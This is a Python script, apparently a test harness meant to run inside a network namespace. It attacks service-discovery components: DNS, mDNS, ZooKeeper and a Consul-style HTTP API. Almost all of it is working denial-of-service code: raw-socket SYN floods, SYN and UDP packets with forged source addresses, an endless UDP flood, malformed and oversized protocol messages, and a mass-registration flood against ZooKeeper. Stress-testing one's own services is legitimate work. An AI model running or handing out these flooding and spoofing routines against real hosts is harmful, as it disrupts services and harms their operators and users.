#!/usr/bin/python3
"""A guest that means harm, and the ZooKeeper that it does it with; run inside a namespace.

    hostile.py zookeeper ADDRESS                                  says yes to every create, and swallows what it does not understand
    hostile.py create ZOOKEEPER COUNT ADDRESS                     registers COUNT services at ADDRESS, as fast as it goes
    hostile.py noise REGISTRY COUNT                               malformed messages to 53, 5353, 2181 and 8500
    hostile.py babble DESTINATION                                 datagrams of 1400 senseless bytes to its DNS port, until it is ended
    hostile.py syn DEVICE DESTINATION PORT COUNT                  SYNs from source ports of 32768 and more, whose answers nobody acknowledges
    hostile.py spoof DEVICE SOURCE DESTINATION PORT COUNT         SYNs and datagrams in the name of SOURCE
"""

import json
import os
import random
import socket
import socketserver
import struct
import sys
import threading

from rawnet import checksum


def packed(data):
    return struct.pack(">i", len(data)) + data


def read_frame(f):
    head = f.read(4)
    if len(head) < 4:
        return None
    (n,) = struct.unpack(">i", head)
    return f.read(n) if 0 <= n < 1 << 20 else None


class ZooKeeper(socketserver.StreamRequestHandler):
    def handle(self):
        try:
            if read_frame(self.rfile) is None:
                return self.swallow()
            self.wfile.write(packed(struct.pack(">iiq", 0, 30000, id(self)) + packed(bytes(16)) + b"\0"))
            while (frame := read_frame(self.rfile)) is not None and len(frame) >= 12:
                xid, _, n = struct.unpack(">iii", frame[:12])
                self.wfile.write(packed(struct.pack(">iqi", xid, xid, 0) + packed(frame[12:12 + n])))
            self.swallow()
        except OSError:
            pass

    def swallow(self):
        while self.rfile.read1(65536):
            pass


class Server(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True
    request_queue_size = 128


def zookeeper(address):
    Server((address, 2181), ZooKeeper).serve_forever()


def create(server, count, address):
    s = socket.create_connection((server, 2181))
    f = s.makefile("rb")
    s.sendall(packed(struct.pack(">iqiq", 0, 0, 30000, 0) + packed(bytes(16))))
    read_frame(f)
    acl = struct.pack(">ii", 1, 31) + packed(b"world") + packed(b"anyone")

    def send():
        for i in range(int(count)):
            path = b"/services/flood-%06d/flood-%06d" % (i, i)
            data = json.dumps({"name": "flood-%06d" % i, "id": "flood-%06d" % i, "address": address, "port": 1024 + i % 60000}).encode()
            s.sendall(packed(struct.pack(">ii", i + 1, 1) + packed(path) + packed(data) + acl + struct.pack(">i", 1)))
    sender = threading.Thread(target=send)
    sender.start()
    for _ in range(int(count)):
        if read_frame(f) is None:
            sys.exit("the server has gone")
    sender.join()
    print("done", flush=True)


# A good beginning, so that more than the first check is reached.
STARTS = {
    53: [bytes.fromhex("123428000001000000010000") + b"\4shop\7example\0\0\6\0\1", bytes.fromhex("123481800001ffff00000000") + b"\xc0\x0c"],
    5353: [bytes.fromhex("000084000000ffff00000000") + b"\xc0\x0c", bytes.fromhex("000084000000000100000000") + b"\4_tcp\5local\0\0\x0c\0\1\0\0\0\x78\xff\xff"],
    2181: [struct.pack(">i", 0x7fffffff), struct.pack(">i", -1), packed(struct.pack(">iqiq", 0, 0, 30000, 0) + packed(bytes(16))) + struct.pack(">iii", 24, 1, 1)],
    8500: [b"PUT /v1/agent/service/register HTTP/1.1\r\nContent-Length: 99999999999999999999\r\n\r\n", b"PUT /v1/agent/service/register HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nfffffffffffffff\r\n",
           b"PUT /v1/agent/service/register HTTP/1.1\r\nContent-Length: 200000\r\n\r\n" + b"[" * 100000, b"GET / HTTP/1.1\r\n" + b"a: b\r\n" * 20000],
}


def noise(registry, count):
    rng = random.Random(4)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for i in range(int(count)):
        for port in (53, 5353):
            data = rng.choice(STARTS[port] + [b""]) + rng.randbytes(rng.randrange(1200))
            udp.sendto(data, ("224.0.0.251" if port == 5353 else registry, port))
        for port in (2181, 8500):
            if i % 20 == 0:
                with socket.create_connection((registry, port), 5) as s:
                    try:
                        s.sendall(rng.choice(STARTS[port] + [b""]) + rng.randbytes(rng.randrange(60000)))
                    except OSError:
                        pass        # it has had enough of us
    print("done", flush=True)


def spoof(device, source, destination, port, count):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((device, 0))
    own = s.getsockname()[4]
    a, b = socket.inet_aton(source), socket.inet_aton(destination)
    for i in range(int(count)):
        tcp = struct.pack(">HHIIBBHHH", 20000 + i % 40000, int(port), i, 0, 5 << 4, 2, 65535, 0, 0)
        tcp = tcp[:16] + struct.pack(">H", checksum(a + b + struct.pack(">HH", 6, len(tcp)) + tcp)) + tcp[18:]
        udp = struct.pack(">HHHH", 20000 + i % 40000, 53, 8 + 32, 0) + os.urandom(32)
        for protocol, body in ((6, tcp), (17, udp)):
            ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(body), i & 0xffff, 0, 64, protocol, 0, a, b)
            ip = ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:]
            s.send(b"\xff" * 6 + own + b"\x08\x00" + ip + body)
    print("done", flush=True)


def babble(destination):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((destination, 53))
    data = os.urandom(1400)
    while True:
        try:
            s.send(data)
        except OSError:
            pass            # nobody listens there


def syn(device, destination, port, count):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((destination, 1))
        source = s.getsockname()[0]
    a, b = socket.inet_aton(source), socket.inet_aton(destination)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    for i in range(int(count)):
        tcp = struct.pack(">HHIIBBHHH", 32768 + i % 32767, int(port), i, 0, 5 << 4, 2, 65535, 0, 0)
        tcp = tcp[:16] + struct.pack(">H", checksum(a + b + struct.pack(">HH", 6, len(tcp)) + tcp)) + tcp[18:]
        raw.sendto(tcp, (destination, 0))
    print("done", flush=True)


{"babble": babble, "syn": syn, "zookeeper": zookeeper, "create": create, "noise": noise, "spoof": spoof}[sys.argv[1]](*sys.argv[2:])
